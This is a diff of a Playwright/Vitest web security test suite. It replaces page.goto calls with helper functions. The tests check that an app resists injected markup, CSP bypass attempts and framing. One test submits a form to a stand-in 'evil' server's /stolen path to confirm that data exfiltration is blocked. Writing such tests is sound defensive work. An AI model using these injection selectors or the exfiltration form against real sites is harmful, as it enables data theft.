@@ -4,7 +4,7 @@ import type { Browser } from 'playwright'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { queryDatabase, withoutTable } from '../support/app-database.ts'
 import { type AppProcess, removeApps, removeFolders, startApp } from '../support/app-process.ts'
-import { openBrowser, visit } from '../support/browser.ts'
+import { openBrowser, openPage, settled, visit } from '../support/browser.ts'
 import type { Answered } from './caller.ts'
 import { aRanked, aVisitor, BEHIND_PROXY, expectStatus, type ProtectedPerson } from './people.ts'
 import { startRudeServer } from './rude-server.ts'
@@ -256,7 +256,7 @@ describe('row 49: text that would be markup', () => {
     const shown: string[] = []
     const lookAt = async (path: string) => {
       const page = await context.newPage()
-      await page.goto(app.url + path, { waitUntil: 'networkidle' })
+      await openPage(page, app.url + path)
       expect(await page.evaluate('[window.pwned, ...window.violations]'), path).toEqual([undefined])
       const planted = page.locator('img[src="x"], svg[onload], a[href^="javascript:"], a[href^="//"]')
       expect(await planted.count(), path).toBe(0)
@@ -288,7 +288,7 @@ describe('row 50: the policy in a browser', () => {
       const all = `${injected}<script nonce="${nonce}">${own}</script></head>`
       await route.fulfill({ response, body: (await response.text()).replace('</head>', all) })
     })
-    await page.goto(`${app.url}/terms`, { waitUntil: 'networkidle' })
+    await openPage(page, `${app.url}/terms`)
     const told = await page.evaluate(
       '(async () => [window.refused, await window.fetched, document.baseURI.includes("evil"), window.pwned])()',
     )
@@ -311,14 +311,14 @@ describe('row 50: the policy in a browser', () => {
       response.setHeader('content-type', 'text/html').end(`<iframe id="us" src="${app.url}/auth"></iframe>`),
     )
     const { page } = await visit(browser)
-    await page.goto(evil.url.replace('127.0.0.1', 'localhost'), { waitUntil: 'networkidle' })
+    await openPage(page, evil.url.replace('127.0.0.1', 'localhost'))
     const framed = page.frames().find((frame) => frame !== page.mainFrame())
     expect(await framed?.locator('form').count()).toBe(0)
-    await page.goto(`${app.url}/auth`, { waitUntil: 'networkidle' })
+    await openPage(page, `${app.url}/auth`)
     await page.evaluate(
       `{ const form = document.createElement('form'); form.action = '${evil.url}/stolen'; document.body.append(form); form.submit() }`,
     )
-    await page.waitForLoadState('networkidle')
+    await settled(page)
     expect(evil.asked).not.toContain('/stolen?')
     await evil.stop()
   })
